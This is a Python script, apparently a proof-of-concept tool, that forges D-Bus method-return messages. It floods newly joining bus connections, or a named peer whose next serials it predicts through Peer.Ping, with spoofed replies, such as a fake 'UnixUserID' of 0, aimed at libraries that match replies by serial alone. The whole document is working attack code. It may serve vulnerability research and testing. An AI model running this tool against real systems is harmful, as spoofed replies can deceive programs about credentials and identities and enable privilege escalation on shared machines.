"""Sends method returns nobody asked for, as any connection on a bus may: what a D-Bus library
that matches a reply to its call by the reply serial alone takes for the answer.

Usage: forge-returns.py ADDRESS BODY (--joining | --target NAME [--behind K]) [--serials N] [--seconds S]

BODY is the returns' body in GVariant text form, a tuple: "(uint32 0,)", "('13:13', '14:14')",
"({'UnixUserID': <uint32 0>},)".

--joining      every connection that joins the bus after the forger (NameOwnerChanged with a
               new unique name) gets returns for reply serials 1..N, again and again while it
               is on the bus: a program's first calls are its lowest serials.
--target NAME  NAME gets returns for the N serials after the one its answer to a Peer.Ping
               carried, probed again each round: the next calls it makes; with --behind K,
               the K before it too: calls it made and still waits for.

Prints "ready" and its unique name once it watches (and has probed), "forged at NAME" the first time it
has sent returns to NAME, "rounds R" after every 50th round, then
forges for S seconds (default 30) or until killed. Prints how many returns it sent when it ends.
"""
import argparse
import sys
import time

from gi.repository import Gio, GLib

parser = argparse.ArgumentParser()
parser.add_argument("address")
parser.add_argument("body")
parser.add_argument("--joining", action="store_true")
parser.add_argument("--target")
parser.add_argument("--serials", type=int, default=40)
parser.add_argument("--behind", type=int, default=0)
parser.add_argument("--seconds", type=float, default=30)
arguments = parser.parse_args()

body = GLib.Variant.parse(None, arguments.body, None, None)
connection = Gio.DBusConnection.new_for_address_sync(
    arguments.address,
    Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION,
    None, None)
own_name = connection.get_unique_name()
targets = set()
forged_at = set()
sent = 0


def joined(_connection, _sender, _path, _interface, _member, parameters):
    name, old_owner, new_owner = parameters.unpack()
    if not name.startswith(":") or name == own_name:
        return
    if new_owner:
        targets.add(name)
    else:
        targets.discard(name)


def forge(destination, serials):
    """Sends one return to `destination` for each serial; false once it has left the bus."""
    global sent
    for serial in serials:
        message = Gio.DBusMessage.new()
        message.set_message_type(Gio.DBusMessageType.METHOD_RETURN)
        message.set_reply_serial(serial)
        message.set_destination(destination)
        message.set_body(body)
        try:
            connection.send_message(message, Gio.DBusSendMessageFlags.NONE)
        except GLib.Error:
            return False
        sent += 1
    return True


def next_serial(name):
    """The serial `name` gives its next message: one past its answer to a Ping."""
    ping = Gio.DBusMessage.new_method_call(name, "/", "org.freedesktop.DBus.Peer", "Ping")
    try:
        reply, _ = connection.send_message_with_reply_sync(ping, Gio.DBusSendMessageFlags.NONE, 2000, None)
    except GLib.Error:
        return None
    return reply.get_serial() + 1 if reply.get_message_type() == Gio.DBusMessageType.METHOD_RETURN else None


if arguments.joining:
    connection.signal_subscribe(
        "org.freedesktop.DBus", "org.freedesktop.DBus", "NameOwnerChanged", "/org/freedesktop/DBus",
        None, Gio.DBusSignalFlags.NONE, joined)
    # The subscription's AddMatch is answered before anything that joins after this Ping.
    connection.call_sync("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                         "GetId", None, None, Gio.DBusCallFlags.NONE, 2000, None)
elif arguments.target is None or next_serial(arguments.target) is None:
    sys.exit("forge-returns.py: give --joining, or --target with a name that answers Ping")

print("ready", own_name, flush=True)
context = GLib.MainContext.default()
# Wakes a forger with nobody to forge for, so that it ends on time.
GLib.timeout_add(50, lambda: True)
deadline = time.monotonic() + arguments.seconds
rounds = 0
while time.monotonic() < deadline:
    while context.pending():
        context.iteration(False)
    if arguments.joining:
        for name in list(targets):
            if not forge(name, range(1, arguments.serials + 1)):
                targets.discard(name)
            elif name not in forged_at:
                forged_at.add(name)
                print(f"forged at {name}", flush=True)
    else:
        first = next_serial(arguments.target)
        if first is None:
            break
        forge(arguments.target, range(max(1, first - arguments.behind), first + arguments.serials))
    connection.flush_sync(None)
    rounds += 1
    if rounds % 50 == 0:
        print(f"rounds {rounds}", flush=True)
    if arguments.joining and not targets:
        context.iteration(True)
print(f"sent {sent}", flush=True)
